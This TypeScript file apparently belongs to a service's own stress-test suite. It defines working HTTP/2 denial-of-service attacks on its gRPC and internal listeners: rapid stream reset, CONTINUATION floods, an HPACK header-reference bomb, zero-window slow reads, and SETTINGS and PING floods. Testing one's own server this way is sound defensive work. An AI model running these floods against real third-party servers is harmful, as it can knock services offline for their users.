import { setTimeout as sleep } from "node:timers/promises";
import type { Attack } from "./attack.ts";
import type { Attacker } from "./attacker.ts";
import {
  block,
  flags,
  frame,
  headers,
  keptField,
  lastKeptField,
  messageHead,
  reset,
  settings,
  textFields,
} from "./frames.ts";
import { inParallel, untilOver } from "./http1.ts";

const everywhere = ["grpc", "native", "internal"] as const;
const listPools = "/service.api.PoolService/ListPools";
const routeStream = "/service.api.RoutingService/RouteStream";
const createPool = "/service.api.PoolService/CreatePool";
const largePage = "/docs/assets/rapidoc-9.3.8.min.js";

/** Attacks over HTTP/2, with credentials or without. */
export const http2Attacks: readonly Attack[] = [
  {
    name: "a message in DATA frames of one byte",
    listeners: everywhere,
    async run(attacker) {
      do {
        const connection = await attacker.connectHttp2();
        connection.write(headers(1, attacker.grpc(listPools), false));
        connection.write(frame("data", { stream: 1, payload: messageHead(60_000) }));
        const data = frame("data", { stream: 1, payload: Buffer.from("x") });
        // The window of a stream is 65,535 bytes until the other side opens it further.
        await connection.send(repeated(data, 59_999));
        await connection.send(
          frame("data", { stream: 1, flags: flags.endStream, payload: Buffer.from("x") }),
        );
        await sleep(100);
      } while (!attacker.isOver);
    },
  },
  {
    name: "messages on many streams that never end",
    listeners: everywhere,
    run: (attacker) =>
      inParallel(4, async () => {
        const connection = await attacker.connectHttp2();
        const piece = frame("data", { payload: Buffer.alloc(16_000) });
        for (let stream = 1; stream < 500 && !attacker.isOver; stream += 2) {
          connection.write(headers(stream, attacker.grpc(listPools), false));
          connection.write(frame("data", { stream, payload: messageHead(4_000_000) }));
          piece.writeUInt32BE(stream, 5);
          await connection.send(Buffer.from(piece));
        }
        await untilOver(attacker);
      }),
  },
  {
    name: "answers that are not read, with a window of zero",
    listeners: ["native", "internal"],
    run: (attacker) =>
      inParallel(8, async () => {
        const connection = await attacker.connectHttp2({ settings: { 4: 0 } });
        for (let stream = 1; stream < 500; stream += 2)
          await connection.send(headers(stream, attacker.page(largePage), true));
        await untilOver(attacker);
      }),
  },
  {
    name: "pages of pools that are not read, with a window of zero",
    listeners: everywhere,
    async run(attacker) {
      const owner = await attacker.connectHttp2();
      for (let stream = 1; stream < 400; stream += 2)
        await owner.send(call(attacker, stream, createPool, { 1: `large-${stream}`, 2: "x".repeat(2_000) }));
      await inParallel(4, async () => {
        const connection = await attacker.connectHttp2({ settings: { 4: 0 } });
        // A page of 1,000.
        for (let stream = 1; stream < 500; stream += 2)
          await connection.send(call(attacker, stream, listPools, Buffer.from([8, 0xe8, 7])));
        await untilOver(attacker);
      });
    },
  },
  {
    name: "a RouteStream whose answers are not read",
    listeners: everywhere,
    run: (attacker) =>
      inParallel(2, async () => {
        const connection = await attacker.connectHttp2({ settings: { 4: 0 } });
        // An empty request is answered with an error of its own.
        const requests = frame("data", { payload: Buffer.alloc(5 * 3_000) });
        for (let stream = 1; stream < 20 && !attacker.isOver; stream += 2) {
          connection.write(headers(stream, attacker.grpc(routeStream), false));
          requests.writeUInt32BE(stream, 5);
          await connection.send(Buffer.from(requests));
        }
        await untilOver(attacker);
      }),
  },
  {
    name: "streams that are reset as soon as they are opened",
    listeners: everywhere,
    // Destroying a session while nghttp2 reads its frames once ended the process within seconds.
    testedMs: 4_000,
    run: (attacker) =>
      flood(attacker, (first) => {
        const frames: Buffer[] = [];
        for (let stream = first; stream < first + 400; stream += 2)
          frames.push(headers(stream, attacker.grpc(listPools), true), reset(stream));
        return Buffer.concat(frames);
      }),
  },
  {
    name: "headers that go on in CONTINUATION frames",
    listeners: everywhere,
    run: (attacker) =>
      inParallel(4, async () => {
        while (!attacker.isOver) {
          const connection = await attacker.connectHttp2();
          const payload = block(attacker.page("/health"));
          connection.write(frame("headers", { stream: 1, payload }));
          const more = frame("continuation", { stream: 1, payload: block({ "x-more": "y".repeat(10_000) }) });
          while (connection.isOpen && !attacker.isOver) await connection.send(repeated(more, 10));
        }
      }),
  },
  {
    name: "CONTINUATION frames with nothing in them",
    listeners: everywhere,
    run: (attacker) =>
      inParallel(4, async () => {
        while (!attacker.isOver) {
          const connection = await attacker.connectHttp2();
          connection.write(frame("headers", { stream: 1, payload: block(attacker.page("/health")) }));
          const more = repeated(frame("continuation", { stream: 1 }), 1_000);
          while (connection.isOpen && !attacker.isOver) await connection.send(more);
        }
      }),
  },
  {
    name: "a header that refers to one large field again and again",
    listeners: everywhere,
    run: (attacker) =>
      flood(attacker, (first) => {
        const kept = first === 1 ? keptField("x-large", "y".repeat(4_000)) : Buffer.alloc(0);
        const payload = Buffer.concat([
          block(attacker.page("/health")),
          kept,
          repeated(lastKeptField, 10_000),
        ]);
        return frame("headers", { stream: first, flags: flags.endHeaders | flags.endStream, payload });
      }),
  },
  {
    name: "SETTINGS without end",
    listeners: everywhere,
    run: (attacker) => flood(attacker, () => repeated(settings({ 1: 4_096, 4: 65_535 }), 500), false),
  },
  {
    name: "PING without end, its answers not read",
    listeners: everywhere,
    run: (attacker) =>
      flood(attacker, () => repeated(frame("ping", { payload: Buffer.alloc(8) }), 500), false),
  },
  {
    name: "DATA frames with nothing in them",
    listeners: everywhere,
    run: (attacker) =>
      flood(attacker, (first) => {
        const open = first === 1 ? headers(1, attacker.grpc(listPools), false) : Buffer.alloc(0);
        return Buffer.concat([open, repeated(frame("data", { stream: 1 }), 500)]);
      }),
  },
];

/** A complete unary call; its message as bytes, or as strings by field number. */
function call(
  attacker: Attacker,
  stream: number,
  path: string,
  message: Buffer | Readonly<Record<number, string>>,
): Buffer {
  const bytes = Buffer.isBuffer(message) ? message : textFields(message);
  const payload = Buffer.concat([messageHead(bytes.length), bytes]);
  return Buffer.concat([
    headers(stream, attacker.grpc(path), false),
    frame("data", { stream, payload, flags: flags.endStream }),
  ]);
}

/**
 * One connection after the other, each with as many frames as it accepts; `frames` gets the number of the next stream.
 */
async function flood(attacker: Attacker, frames: (first: number) => Buffer, reads = true): Promise<void> {
  await inParallel(4, async () => {
    while (!attacker.isOver) {
      const connection = await attacker.connectHttp2({ reads });
      for (let first = 1; connection.isOpen && !attacker.isOver; first += 400) {
        await connection.send(frames(first));
        await sleep(1);
      }
    }
  });
}

function repeated(bytes: Buffer, times: number): Buffer {
  return Buffer.concat(Array.from({ length: times }, () => bytes));
}
